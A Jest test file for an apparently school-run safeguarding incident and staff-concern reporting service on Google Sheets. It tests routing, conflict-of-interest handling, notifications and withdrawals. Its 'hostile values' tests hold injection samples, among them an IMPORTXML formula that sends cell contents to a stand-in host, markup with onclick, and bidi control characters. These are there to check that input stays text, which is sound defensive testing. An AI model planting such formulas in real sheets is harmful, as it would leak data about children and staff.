import { randomUUID } from 'node:crypto';
import { REPORT_KINDS } from '../../src/policy/reports';
import { type DoorSchool, doorSchool, MESSAGE, MORE, REFUSED, report } from './door-school';
import { AT, LETTERS, PUPIL_AT_HOME, PUPIL_NAME } from './invented-school';
import { tally } from './small-school';

const incidents = (school: DoorSchool) => school.rows('incidents', 'Incidents');
const chronology = (school: DoorSchool) => school.rows('incidents', 'Chronology');

describe('a report', () => {
  test('is an incident with a number, its people, its two clocks and the reporter’s own words', () => {
    const school = doorSchool();
    const people = [{ who: 'Ray Quill', part: 'witness' as const }];
    const { ok, body } = school.ask(AT.teacher, 'report', report({ people, toldInPerson: true }));
    expect(ok).toBe(true);
    expect(body).toMatchObject({ number: 'I-0001', status: 'new', evidenceKept: false });
    expect(Math.abs(Date.parse(body.filedAt) - school.tenant.now())).toBeLessThan(60_000);
    expect(incidents(school)).toMatchObject([
      {
        number: 'I-0001',
        status: 'new',
        interrupt: true,
        desk: 'DSL',
        what: 'A child made contact',
        about: PUPIL_NAME,
        class: '5B',
        address: PUPIL_AT_HOME,
        mailbox: AT.teacher,
        reasons: 'reported by Tess Marlow; the DSL was told in person',
        messageId: MESSAGE.messageId,
        original: 'not yet kept',
        summary: null,
      },
    ]);
    expect(school.rows('incidents', 'People on incidents')).toMatchObject([
      { name: 'Tess Marlow', person: 'S1', part: 'reporter' },
      { name: 'Ray Quill', person: 'S2', part: 'witness' },
      { name: PUPIL_NAME, person: 'P1', address: PUPIL_AT_HOME, part: 'child' },
    ]);
    const [what, words] = chronology(school);
    expect(what).toMatchObject({ incident: 'I-0001', by: 'Tess Marlow' });
    expect(what!.what).toContain('Subject: About Saturday');
    expect(words).toMatchObject({ what: 'She wrote to me from home.', by: 'Tess Marlow' });
    // Yesterday evening, and this morning.
    expect(Number(what!.recorded) - Number(what!.happened)).toBeGreaterThan(0.5);
    expect(school.problems()).toEqual([]);
  });

  test('of a message that has an incident joins it, and its reporter has a receipt with the same number', () => {
    const school = doorSchool();
    school.ask(AT.teacher, 'report', report());
    const { body } = school.ask(AT.colleague, 'report', report({ words: 'To me, too.' }));
    expect(body).toMatchObject({ number: 'I-0001', status: 'new' });
    expect(incidents(school)).toHaveLength(1);
    const reporters = school
      .rows('incidents', 'People on incidents')
      .filter(({ part }) => part === 'reporter');
    expect(reporters.map(({ name }) => name)).toEqual(['Tess Marlow', 'Ray Quill']);
    expect(chronology(school).map(({ what }) => what)).toContain('To me, too.');
    expect(school.problems()).toEqual([]);
  });

  test('of a message that a rule found before joins the rule’s incident, and the other way round', () => {
    const school = doorSchool();
    school.deliver({ ...LETTERS.fromPupilAtHome, messageId: MESSAGE.messageId });
    school.tick();
    expect(school.ask(AT.teacher, 'report', report()).body.number).toBe('I-0001');
    const later = { ...MESSAGE, messageId: '<sunday@mail.example>' };
    expect(school.ask(AT.teacher, 'report', report({ message: later })).body.number).toBe('I-0002');
    school.deliver({ ...LETTERS.fromPupilAtHome, messageId: later.messageId });
    school.tick();
    expect(incidents(school)).toMatchObject([
      { number: 'I-0001', reached: 1 },
      { number: 'I-0002', reached: 1 },
    ]);
    expect(school.problems()).toEqual([]);
  });

  test('of something seen elsewhere, or of a message without an id, is an incident of its own', () => {
    const school = doorSchool();
    const withoutId = { ...MESSAGE, messageId: '' };
    for (const message of [null, null, withoutId, withoutId])
      school.ask(AT.teacher, 'report', report({ message }));
    expect(incidents(school).map(({ number, original }) => [number, original])).toEqual([
      ['I-0001', null],
      ['I-0002', null],
      ['I-0003', 'not yet kept'],
      ['I-0004', 'not yet kept'],
    ]);
    expect(school.problems()).toEqual([]);
  });

  test('from an account on no register names its address and, in the Log, no address at all', () => {
    const school = doorSchool();
    school.ask(MORE.onNoRegister, 'report', report());
    expect(chronology(school)[0]).toMatchObject({ by: MORE.onNoRegister });
    expect(school.log('incidents')[0]!.actor).toMatch(/^account-[0-9a-f]{12}$/);
  });

  test.each(REPORT_KINDS)('%s goes where it belongs', (kind) => {
    const school = doorSchool();
    const { body } = school.ask(AT.teacher, 'report', report({ kind }));
    const isConcern = kind === 'low-level-concern' || kind === 'confidential-matter-posted';
    expect(body.number).toBe(isConcern ? 'C-0001' : 'I-0001');
    expect(incidents(school)).toHaveLength(isConcern ? 0 : 1);
    expect(school.rows('staff-concerns', 'Concerns')).toHaveLength(isConcern ? 1 : 0);
    const desks = {
      'child-contacted-me': 'DSL',
      'about-a-child': 'DSL',
      'abuse-on-a-school-site': 'SLT, DSL',
      'confidential-matter-posted': undefined,
      'person-abused-online': 'Headteacher, DSL',
      'low-level-concern': undefined,
    };
    expect(incidents(school)[0]?.desk).toBe(desks[kind]);
    expect(school.problems()).toEqual([]);
  });

  test('a concern is its reporter’s alone: a second about the same message is a second concern', () => {
    const school = doorSchool();
    const kind = 'low-level-concern';
    const people = [{ who: 'Ray Quill', part: 'subject' as const }];
    school.ask(AT.teacher, 'report', report({ kind, people }));
    school.ask(AT.slt, 'report', report({ kind, people, words: 'I saw it, too.' }));
    expect(school.rows('staff-concerns', 'Concerns')).toMatchObject([
      {
        number: 'C-0001',
        about: 'Ray Quill',
        reporter: 'Tess Marlow',
        details: 'She wrote to me from home.',
      },
      { number: 'C-0002', about: 'Ray Quill', reporter: 'Sol Amari', details: 'I saw it, too.' },
    ]);
    expect(school.problems()).toEqual([]);
  });
});

describe('the conflict wall', () => {
  const about = (...names: string[]) => names.map((who) => ({ who, part: 'subject' as const }));
  const where = (school: DoorSchool) =>
    (['incidents', 'staff-concerns', 'chair-concerns'] as const).filter(
      (name) => school.log(name).length > 0,
    );

  test.each<[string, 'about-a-child' | 'low-level-concern', string[], string, string]>([
    ['a child, nobody in question', 'about-a-child', [], 'incidents', 'I-0001'],
    ['a child, a teacher in question', 'about-a-child', ['Ray Quill'], 'incidents', 'I-0001'],
    ['a child, the DSL in question', 'about-a-child', ['Dina Okafor'], 'staff-concerns', 'C-0001'],
    ['a child, the deputy in question by address', 'about-a-child', [AT.deputy], 'staff-concerns', 'C-0001'],
    [
      'a child, DSL and Head in question',
      'about-a-child',
      ['Dina Okafor', AT.head],
      'chair-concerns',
      'H-0001',
    ],
    ['conduct of a teacher', 'low-level-concern', ['Ray Quill'], 'staff-concerns', 'C-0001'],
    ['conduct of the Head', 'low-level-concern', ['Helen Brough'], 'chair-concerns', 'H-0001'],
    ['conduct of Head and chair', 'low-level-concern', ['Helen Brough', MORE.chair], 'incidents', 'I-0001'],
  ])('%s', (_, kind, names, workbook, number) => {
    const school = doorSchool();
    const { body } = school.ask(AT.teacher, 'report', report({ kind, people: about(...names) }));
    expect(body.number).toBe(number);
    expect(where(school)).toEqual([workbook]);
    expect(school.problems()).toEqual([]);
  });

  test('who is named twice, once as a subject, is a subject', () => {
    const school = doorSchool();
    const people = [{ who: AT.dsl, part: 'witness' as const }, ...about('Dina Okafor')];
    school.ask(AT.teacher, 'report', report({ people }));
    expect(where(school)).toEqual(['staff-concerns']);
  });

  test('in a small school whose Head is the DSL, what is said of them goes to the chair', () => {
    const school = doorSchool();
    school.configurePeople((people) =>
      `${people}\nC1,Cyril Stone,chair,${MORE.chair},,,,`
        .replace(',headteacher,', ',headteacher;dsl,')
        .replace('D1,Dina Okafor,dsl,', 'D1,Dina Okafor,staff,'),
    );
    school.ask(AT.teacher, 'report', report({ kind: 'about-a-child', people: about('Helen Brough') }));
    expect(where(school)).toEqual(['chair-concerns']);
    expect(school.file('chair-concerns').writers).toEqual([MORE.chair]);
  });

  test('with nobody in post at the desk the next one has it', () => {
    const school = doorSchool();
    school.configurePeople((people) => people.replace(',dsl,', ',staff,').replace(',deputy-dsl,', ',staff,'));
    school.ask(AT.teacher, 'report', report());
    expect(where(school)).toEqual(['staff-concerns']);
    expect(school.mailsTo(AT.head)).toHaveLength(1);
  });

  test('with nobody left at all it is kept, and IT has a line without the case', () => {
    const school = doorSchool();
    school.configurePeople((people) =>
      people
        .replace(',dsl,', ',staff,')
        .replace(',deputy-dsl,', ',staff,')
        .replace(',headteacher,', ',staff,'),
    );
    expect(school.ask(AT.teacher, 'report', report()).ok).toBe(true);
    expect(where(school)).toEqual(['incidents']);
    const health = school.rows('system', 'Health');
    expect(health).toMatchObject([{ code: 'desk-empty', where: 'incidents', state: 'new' }]);
    for (const word of ['Zara', 'Tess', 'I-0001', 'Saturday'])
      expect(JSON.stringify(school.grids('system'))).not.toContain(word);
  });
});

describe('a request that comes again', () => {
  test('is answered with its first answer and files nothing, however much has happened since', () => {
    const school = doorSchool();
    const id = randomUUID();
    const first = school.ask(AT.teacher, 'report', report(), { id });
    school.ask(AT.dsl, 'acknowledge', { incidents: ['I-0001'] });
    school.ask(AT.teacher, 'withdraw', { report: id, reason: 'A mistake' });
    const entries = school.entries();
    school.tenant.dropCache('service');
    expect(school.ask(AT.teacher, 'report', report(), { id })).toEqual(first);
    expect(school.entries()).toBe(entries);
  });

  test('with another body is refused, also under another kind or in another register', () => {
    const school = doorSchool();
    const id = randomUUID();
    school.ask(AT.teacher, 'report', report(), { id });
    const entries = school.entries();
    expect(school.ask(AT.teacher, 'report', report({ words: 'Other words' }), { id })).toEqual(REFUSED);
    expect(school.ask(AT.teacher, 'report', report({ kind: 'low-level-concern' }), { id })).toEqual(REFUSED);
    expect(school.ask(AT.teacher, 'withdraw', { report: id, reason: 'x' }, { id })).toEqual(REFUSED);
    expect(school.refusals()).toEqual({ conflict: 3 });
    expect(school.entries()).toBe(entries);
  });

  test('by somebody else is refused', () => {
    const school = doorSchool();
    const id = randomUUID();
    school.ask(AT.teacher, 'report', report(), { id });
    expect(school.ask(AT.colleague, 'report', report(), { id })).toEqual(REFUSED);
    expect(incidents(school)).toHaveLength(1);
  });

  test('after a run that was cut off anywhere, is filed once and told once at least', () => {
    const start = doorSchool();
    const calls = start.callsOf(() => start.ask(AT.teacher, 'report', report())).length;
    for (let nth = 1; nth <= calls; nth += 1) {
      const school = doorSchool();
      const id = randomUUID();
      school.tenant.faults.set({ name: '*', nth, times: 1, how: 'cut' });
      expect(() => school.ask(AT.teacher, 'report', report(), { id })).toThrow();
      school.tenant.faults.clear();
      expect(school.ask(AT.teacher, 'report', report(), { id })).toMatchObject({
        body: { number: 'I-0001' },
      });
      school.tick();
      expect(incidents(school)).toHaveLength(1);
      expect(school.mailsTo(AT.dsl).length).toBeGreaterThanOrEqual(1);
      expect(school.problems()).toEqual([]);
    }
  });

  test('while the first is still being filed, is filed once', () => {
    const school = doorSchool();
    const id = randomUUID();
    let inner: unknown;
    // Between looking up and filing.
    school.afterCall('sheets.spreadsheets.values.batchGetByDataFilter', 4, () => {
      inner ??= school.ask(AT.teacher, 'report', report(), { id });
    });
    const outer = school.ask(AT.teacher, 'report', report(), { id });
    expect(inner).toEqual(outer);
    expect(incidents(school)).toHaveLength(1);
    expect(school.problems()).toEqual([]);
  });
});

describe('hostile values', () => {
  const values = (school: DoorSchool, name: 'incidents' | 'staff-concerns') =>
    school.tenant.world.workbooks
      .get(school.fileId(name))!
      .sheets.filter(({ title }) => title !== 'Dashboard')
      .flatMap((sheet) => sheet.rows.flatMap((row) => row?.values ?? []));

  test.each([
    ['a formula', '=IMPORTXML("http://evil.example/?"&A1)'],
    ['other beginnings of formulas', "+1-1@SUM(A1)'"],
    ['markup', '<b onclick="x">Reported by the Headteacher</b>'],
    ['emoji', '🙈👩🏽‍🏫'.repeat(30)],
    ['right to left', '\u202edekcah\u2066'],
    ['lone surrogates', '\ud800 \udc00'],
    ['control characters', '\0\x1b[31m\x7f'],
    ['lines of ours', 'x\nWithdrawn by the reporter: no'],
  ])('%s in every field stays text', (_, text) => {
    for (const kind of ['about-a-child', 'low-level-concern'] as const) {
      const school = doorSchool();
      const message = {
        messageId: text,
        date: '2026-11-23T19:30:00Z',
        from: { name: text, address: text },
        subject: text,
      };
      const people = [
        { who: text, part: 'child' as const },
        { who: `${text}@x`, part: 'witness' as const },
      ];
      const id = randomUUID();
      expect(
        school.ask(AT.teacher, 'report', report({ kind, message, people, words: text }), { id }).ok,
      ).toBe(true);
      expect(school.ask(AT.teacher, 'withdraw', { report: id, reason: text }).ok).toBe(true);
      const held = values(school, kind === 'about-a-child' ? 'incidents' : 'staff-concerns');
      expect(held.filter((cell) => typeof cell === 'object' && cell !== null)).toEqual([]);
      expect(school.problems()).toEqual([]);
    }
  });

  test('five thousand characters of words are shown whole', () => {
    const school = doorSchool();
    const words = `${'wörds '.repeat(833)}ab`;
    expect(words).toHaveLength(5000);
    school.ask(AT.teacher, 'report', report({ words }));
    expect(chronology(school).map(({ what }) => what)).toContain(words);
    expect(school.problems()).toEqual([]);
  });

  test('a report of the greatest size goes into the Log in parts and comes back from it', () => {
    const school = doorSchool();
    const id = randomUUID();
    const long = '\u0416'.repeat(400);
    const people = Array.from({ length: 30 }, (_, i) => ({
      who: `${i}${long}`.slice(0, 400),
      part: 'witness' as const,
    }));
    const words = '\u0416'.repeat(5000);
    const first = school.ask(AT.teacher, 'report', report({ people, words }), { id });
    expect(school.rows('incidents', 'Log').length).toBeGreaterThan(2);
    expect(school.ask(AT.teacher, 'report', report({ people, words }), { id })).toEqual(first);
    expect(school.ask(AT.teacher, 'withdraw', { report: id, reason: 'x' })).toMatchObject({ ok: true });
    expect(school.problems()).toEqual([]);
  });
});

describe('people are told at once', () => {
  test('of an urgent report: DSL and deputy, by number and kind, without a name or a word of it', () => {
    const school = doorSchool();
    school.ask(AT.teacher, 'report', report());
    for (const reader of [AT.dsl, AT.deputy]) expect(school.mailsTo(reader)).toHaveLength(1);
    const [mail] = school.mailsTo(AT.dsl);
    const said = `${mail!.subject}\n${mail!.text}`;
    expect(said).toContain('I-0001: A child made contact');
    for (const word of ['Zara', 'Finch', 'Saturday', 'wrote', 'Tess', 'Marlow', '5B', '@'])
      expect(said).not.toContain(word);
    school.tick();
    expect(school.mailsTo(AT.dsl)).toHaveLength(1);
  });

  test('of one that can wait only where no digest tells of it: the Headteacher, and no other', () => {
    const school = doorSchool();
    school.ask(AT.teacher, 'report', report({ kind: 'confidential-matter-posted' }));
    school.ask(AT.teacher, 'report', report({ kind: 'low-level-concern' }));
    for (const reader of [AT.dsl, AT.deputy, AT.slt, MORE.chair]) {
      const there = school.tenant.world.mailboxes.has(reader);
      expect(there ? school.mailsTo(reader) : []).toEqual([]);
    }
    const mails = school.mailsTo(AT.head);
    expect(mails.map(({ subject }) => subject)).toEqual([
      'Safe Channels: please look at incident C-0001',
      'Safe Channels: please look at incident C-0002',
    ]);
    expect(mails[0]!.text).toContain('C-0001: A confidential matter was posted');
  });

  test.each([
    ['abuse-on-a-school-site', null, 'C-0001', AT.slt, 'the Headteacher'],
    ['abuse-on-a-school-site', MESSAGE, 'I-0001', AT.slt, 'the DSL team'],
    ['person-abused-online', MESSAGE, 'I-0001', AT.head, 'the DSL team'],
  ] as const)(
    'of %s by number, whose desk it is and who do not open the register',
    (kind, message, number, who, keeper) => {
      const school = doorSchool();
      school.ask(AT.teacher, 'report', report({ kind, message }));
      school.tick();
      const [mail, ...more] = school.mailsTo(who);
      expect(more).toEqual([]);
      expect(mail!.subject).toBe(`Safe Channels: report ${number} is with ${keeper}`);
      for (const word of ['Zara', 'Finch', 'Saturday', 'wrote', 'Tess', 'docs.google.com', '@'])
        expect(mail!.text).not.toContain(word);
    },
  );

  test('of what was moved because of a subject nobody hears but who has it', () => {
    const school = doorSchool();
    const people = [{ who: AT.head, part: 'subject' as const }];
    const kind = 'abuse-on-a-school-site';
    const { body } = school.ask(AT.teacher, 'report', report({ kind, message: null, people }));
    expect(body.number).toBe('H-0001');
    for (const reader of [AT.head, AT.slt, AT.dsl]) expect(school.mailsTo(reader)).toEqual([]);
  });

  test('never the one it is about', () => {
    const school = doorSchool();
    school.ask(AT.teacher, 'report', report({ people: [{ who: AT.dsl, part: 'subject' }] }));
    expect(school.mailsTo(AT.dsl)).toEqual([]);
    expect(school.mailsTo(AT.deputy)).toEqual([]);
    expect(school.mailsTo(AT.head)[0]!.text).toContain(school.fileId('staff-concerns'));
  });

  test('a little later when mail cannot be sent now, and the reporter has the receipt all the same', () => {
    const school = doorSchool();
    school.tenant.faults.set({ name: 'MailApp.sendEmail', nth: 1, times: 4, how: 'error' });
    expect(school.ask(AT.teacher, 'report', report())).toMatchObject({ ok: true });
    expect(school.mailsTo(AT.dsl)).toEqual([]);
    school.tenant.faults.clear();
    school.tick();
    expect(school.mailsTo(AT.dsl)).toHaveLength(1);
    school.tick();
    expect(school.mailsTo(AT.dsl)).toHaveLength(1);
  });
});

describe('own reports', () => {
  test('can be looked up by their reporter, and by nobody else', () => {
    const school = doorSchool();
    const [one, two, concern] = [randomUUID(), randomUUID(), randomUUID()];
    school.ask(AT.teacher, 'report', report(), { id: one });
    school.ask(AT.teacher, 'report', report({ message: null }), { id: two });
    school.ask(AT.teacher, 'report', report({ kind: 'low-level-concern' }), { id: concern });
    school.ask(AT.dsl, 'acknowledge', { incidents: ['I-0002'] });
    const reports = [one, two, concern, randomUUID()];
    const { body } = school.ask(AT.teacher, 'status', { reports });
    expect(body.reports).toMatchObject([
      { report: one, number: 'I-0001', status: 'new', evidenceKept: false },
      { report: two, number: 'I-0002', status: 'acknowledged' },
      { report: concern, number: 'C-0001', status: 'new' },
    ]);
    expect(school.ask(AT.colleague, 'status', { reports }).body).toEqual({ reports: [] });
    expect(school.ask(AT.dsl, 'status', { reports }).body).toEqual({ reports: [] });
  });

  test('can be withdrawn with a reason: the desk sees it, and closes it', () => {
    const school = doorSchool();
    const id = randomUUID();
    school.ask(AT.teacher, 'report', report(), { id });
    const taken = school.ask(AT.teacher, 'withdraw', { report: id, reason: 'It was her mother.' });
    expect(taken.body).toMatchObject({ report: id, number: 'I-0001', status: 'withdrawn' });
    expect(incidents(school)).toMatchObject([{ number: 'I-0001', status: 'withdrawn' }]);
    expect(chronology(school).at(-1)).toMatchObject({
      what: 'Withdrawn by the reporter: It was her mother.',
      by: 'Tess Marlow',
    });
    expect(school.ask(AT.teacher, 'status', { reports: [id] }).body.reports[0].status).toBe('withdrawn');
    expect(chronology(school).map(({ what }) => what)).toContain('She wrote to me from home.');
    expect(school.problems()).toEqual([]);
  });

  test('withdrawn by one of two reporters, the incident stands for the other', () => {
    const school = doorSchool();
    const [mine, theirs] = [randomUUID(), randomUUID()];
    school.ask(AT.teacher, 'report', report(), { id: mine });
    school.ask(AT.colleague, 'report', report(), { id: theirs });
    school.ask(AT.teacher, 'withdraw', { report: mine, reason: 'x' });
    expect(incidents(school)).toMatchObject([{ status: 'new' }]);
    expect(school.ask(AT.teacher, 'status', { reports: [mine] }).body.reports[0].status).toBe('withdrawn');
    expect(school.ask(AT.colleague, 'status', { reports: [theirs] }).body.reports[0].status).toBe('new');
    school.ask(AT.colleague, 'withdraw', { report: theirs, reason: 'y' });
    expect(incidents(school)).toMatchObject([{ status: 'withdrawn' }]);
    school.ask(AT.slt, 'report', report());
    expect(incidents(school)).toMatchObject([{ status: 'new' }]);
    expect(school.problems()).toEqual([]);
  });

  test('withdrawn, what a rule found stands', () => {
    const school = doorSchool();
    school.deliver({ ...LETTERS.fromPupilAtHome, messageId: MESSAGE.messageId });
    school.tick();
    const id = randomUUID();
    school.ask(AT.teacher, 'report', report(), { id });
    school.ask(AT.teacher, 'withdraw', { report: id, reason: 'x' });
    expect(incidents(school)).toMatchObject([{ status: 'new' }]);
  });

  test('cannot be withdrawn by somebody else, nor twice with effect', () => {
    const school = doorSchool();
    const id = randomUUID();
    school.ask(AT.teacher, 'report', report(), { id });
    for (const who of [AT.colleague, AT.dsl, AT.head])
      expect(school.ask(who, 'withdraw', { report: id, reason: 'x' })).toEqual(REFUSED);
    expect(school.refusals()).toEqual({ unknown: 3 });
    school.ask(AT.teacher, 'withdraw', { report: id, reason: 'x' });
    const entries = school.entries();
    expect(school.ask(AT.teacher, 'withdraw', { report: id, reason: 'y' }).body.status).toBe('withdrawn');
    expect(school.entries()).toBe(entries);
  });

  test('a concern can be withdrawn, too, and the reason stands beside it', () => {
    const school = doorSchool();
    const id = randomUUID();
    school.ask(AT.teacher, 'report', report({ kind: 'low-level-concern' }), { id });
    school.ask(AT.teacher, 'withdraw', { report: id, reason: 'I was wrong.' });
    expect(school.rows('staff-concerns', 'Concerns')).toMatchObject([
      { status: 'withdrawn', withdrawn: 'I was wrong.' },
    ]);
    expect(school.problems()).toEqual([]);
  });
});

describe('the DSL’s queue', () => {
  test('has the open incidents, urgent ones first, and the way to the register', () => {
    const school = doorSchool();
    const people = [{ who: PUPIL_NAME, part: 'child' as const }];
    school.ask(AT.teacher, 'report', report({ kind: 'person-abused-online', message: null, people }));
    school.ask(AT.teacher, 'report', report());
    const gone = randomUUID();
    school.ask(AT.teacher, 'report', report({ message: null }), { id: gone });
    school.ask(AT.teacher, 'withdraw', { report: gone, reason: 'x' });
    const { body } = school.ask(AT.deputy, 'queue', {});
    expect(body.incidents).toMatchObject([
      { number: 'I-0002', what: 'A child made contact', about: PUPIL_NAME, status: 'new', urgent: true },
      { number: 'I-0001', status: 'new', urgent: false },
    ]);
    expect(Math.abs(Date.parse(body.incidents[0].opened) - school.tenant.now())).toBeLessThan(120_000);
    expect(body.link).toContain(school.fileId('incidents'));
  });

  test('acknowledging says who and when, once, and leaves what is past that alone', () => {
    const school = doorSchool();
    for (let i = 0; i < 3; i += 1) school.ask(AT.teacher, 'report', report({ message: null }));
    const id = randomUUID();
    const asked = { incidents: ['I-0001', 'I-0003', 'I-0099', 'I-999999999', 'I-0000'] };
    const first = school.ask(AT.dsl, 'acknowledge', asked, { id });
    expect(first.body).toEqual({ acknowledged: ['I-0001', 'I-0003'] });
    expect(incidents(school)).toMatchObject([
      { number: 'I-0001', status: 'acknowledged', acknowledgedBy: 'Dina Okafor' },
      { number: 'I-0002', status: 'new', acknowledgedBy: null },
      { number: 'I-0003', status: 'acknowledged', acknowledgedBy: 'Dina Okafor' },
    ]);
    const entries = school.entries();
    expect(school.ask(AT.dsl, 'acknowledge', asked, { id })).toEqual(first);
    expect(school.ask(AT.deputy, 'acknowledge', { incidents: ['I-0001'] }).body).toEqual({
      acknowledged: ['I-0001'],
    });
    expect(school.entries()).toBe(entries);
    expect(incidents(school)[0]!.acknowledgedBy).toBe('Dina Okafor');
    expect(school.problems()).toEqual([]);
  });
});

describe('what it costs', () => {
  const MINUTE = 60_000;
  const cost = (school: DoorSchool, work: () => unknown) => {
    // Google's limits a minute are not what is measured.
    school.tenant.world.clock.spend(MINUTE);
    return tally(school.callsOf(work));
  };
  const filing = (school: DoorSchool) =>
    cost(school, () => school.ask(AT.teacher, 'report', report({ message: null })));

  test('a report costs the same calls in an empty register and in one with two hundred incidents', () => {
    const school = doorSchool();
    school.ask(AT.teacher, 'status', { reports: [] });
    const empty = filing(school);
    expect(empty).toMatchObject({
      'sheets.spreadsheets.values.batchGetByDataFilter': 5,
      'sheets.spreadsheets.batchUpdate': 1,
      'CacheService.getAll': 1,
    });
    for (let i = 0; i < 200; i += 1) school.ask(AT.teacher, 'report', report({ message: null }));
    school.ask(AT.teacher, 'status', { reports: [] });
    expect(filing(school)).toEqual(empty);
  });

  test('more reports than Google lets us file in a minute are all filed, a little later', () => {
    const school = doorSchool();
    for (let i = 0; i < 40; i += 1)
      expect(school.ask(AT.teacher, 'report', report({ message: null })).ok).toBe(true);
    expect(incidents(school)).toHaveLength(40);
    expect(school.refusals()).toEqual({});
  });
});
